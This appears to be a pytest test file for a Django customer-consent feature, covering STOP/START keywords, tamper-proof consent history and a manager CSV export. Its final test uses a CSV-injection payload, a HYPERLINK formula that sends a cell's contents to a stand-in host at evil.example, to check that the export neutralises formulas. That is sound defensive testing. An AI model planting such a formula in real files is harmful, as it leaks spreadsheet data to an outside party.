"""Consent keywords arrive as customer messages: recorded with the message, confirmed inside the window."""

import csv
import io

import pytest
from django.contrib.admin.sites import site
from django.test import Client
from django.urls import reverse

from consent.models import ConsentRecord
from consent.selectors import consent_state
from interactions.models import Direction, Message
from interactions.services.consent_messages import ask_for_opt_in
from interactions.services.inbound import record_inbound_message
from interactions.tests.core_events import inbound_message
from tests.factories import UserFactory, agent, manager

pytestmark = pytest.mark.django_db


def test_stop_with_a_trailing_space_opts_out_and_is_confirmed():
    message = record_inbound_message(event=inbound_message(text="Stop "))

    record = ConsentRecord.objects.get()
    assert (record.status, record.method, record.message, record.message_text) == (
        "opted_out",
        "keyword",
        message,
        "Stop ",
    )
    confirmation = Message.objects.get(direction=Direction.OUTBOUND)
    assert confirmation.text.startswith("You have been unsubscribed")
    assert confirmation.author is None and confirmation.status == "queued"


def test_stop_it_please_is_an_ordinary_message():
    record_inbound_message(event=inbound_message(text="stop it please"))

    assert not ConsentRecord.objects.exists()
    assert not Message.objects.filter(direction=Direction.OUTBOUND).exists()


def test_start_after_stop_makes_the_customer_opted_in_again_and_keeps_both_records():
    record_inbound_message(event=inbound_message(text="STOP"))
    message = record_inbound_message(event=inbound_message(text="start"))

    assert consent_state(channel_user_id=message.interaction.channel_user_id).status == "opted_in"
    assert list(ConsentRecord.objects.order_by("pk").values_list("status", flat=True)) == ["opted_out", "opted_in"]


def test_yes_counts_only_as_the_answer_to_the_opt_in_question():
    first = record_inbound_message(event=inbound_message(text="yes"))
    assert not ConsentRecord.objects.exists()

    ask_for_opt_in(interaction=first.interaction, agent=agent())
    answer = record_inbound_message(event=inbound_message(text="YES"))

    assert consent_state(channel_user_id=answer.interaction.channel_user_id).status == "opted_in"


def test_a_redelivered_keyword_is_recorded_once():
    event = inbound_message(text="STOP")
    record_inbound_message(event=event)
    record_inbound_message(event=event)

    assert ConsentRecord.objects.count() == 1


def test_the_history_cannot_be_changed_or_deleted_in_the_admin():
    record_inbound_message(event=inbound_message(text="STOP"))
    record = ConsentRecord.objects.get()
    admin_user = UserFactory(is_staff=True, is_superuser=True)
    model_admin = site._registry[ConsentRecord]
    request = type("Request", (), {"user": admin_user})()
    assert not model_admin.has_change_permission(request, record)
    assert not model_admin.has_delete_permission(request, record)
    assert not model_admin.has_add_permission(request)

    client = Client()
    client.force_login(admin_user)
    change_url = reverse("admin:consent_consentrecord_change", args=[record.pk])
    client.post(change_url, {"status": "opted_in", "note": "edited"})
    client.post(reverse("admin:consent_consentrecord_delete", args=[record.pk]), {"post": "yes"})

    record.refresh_from_db()
    assert (record.status, record.note) == ("opted_out", "")


def test_the_history_cannot_be_changed_or_deleted_through_the_api():
    message = record_inbound_message(event=inbound_message(text="STOP"))
    url = f"/api/v1/channel-users/{message.interaction.channel_user_id}/consent/"
    client = Client()
    client.force_login(agent())

    for method in (client.put, client.patch, client.delete):
        assert method(url, {"status": "opted_in"}, content_type="application/json").status_code == 405
    assert ConsentRecord.objects.get().status == "opted_out"


def test_an_agent_records_an_opt_in_with_its_evidence_and_a_manager_reads_it():
    message = record_inbound_message(event=inbound_message(text="Hello"))
    url = f"/api/v1/channel-users/{message.interaction.channel_user_id}/consent/"
    person = agent()
    client = Client()
    client.force_login(person)

    without_note = client.post(url, {"status": "opted_in", "method": "paper_form", "note": " "}, "application/json")
    recorded = client.post(
        url, {"status": "opted_in", "method": "paper_form", "note": "Signed form, store 12, box 4"}, "application/json"
    )

    assert without_note.status_code == 400
    assert recorded.status_code == 201
    assert recorded.json()["consent"]["status"] == "opted_in"
    history = recorded.json()["history"]
    assert (history[0]["method"], history[0]["note"], history[0]["recorded_by"]) == (
        "paper_form",
        "Signed form, store 12, box 4",
        person.get_full_name() or person.username,
    )
    reader = Client()
    reader.force_login(manager())
    assert reader.get(url).json()["consent"]["status"] == "opted_in"
    assert (
        reader.post(url, {"status": "opted_out", "method": "verbal", "note": "x"}, "application/json").status_code
        == 403
    )


def test_managers_export_the_history_as_csv():
    record_inbound_message(event=inbound_message(text="STOP", sender_name="Ana Lima"))
    client = Client()
    client.force_login(manager())

    response = client.get("/api/v1/consent/export/")

    lines = b"".join(response.streaming_content).decode().splitlines()
    assert response["Content-Type"].startswith("text/csv")
    assert lines[0].startswith("channel,customer_number,customer_name,scope,status,method")
    assert lines[1].startswith("whatsapp,'+16505551234,Ana Lima,all,opted_out,keyword")


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_the_export_shows_a_formula_a_customer_or_agent_wrote_as_text(trigger):
    """OWASP's CSV injection: a spreadsheet must show, never run, what people typed."""
    formula = f'{trigger}HYPERLINK("http://evil.example/?"&A1,"click")'
    record_inbound_message(event=inbound_message(text="STOP", sender_name=formula))
    client = Client()
    client.force_login(manager())

    response = client.get("/api/v1/consent/export/")

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[1][2] == f"'{formula}"
    assert rows[1][1] == "'+16505551234"  # the number too: a spreadsheet would read `+1650…` as a formula
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows[1:] for cell in row)
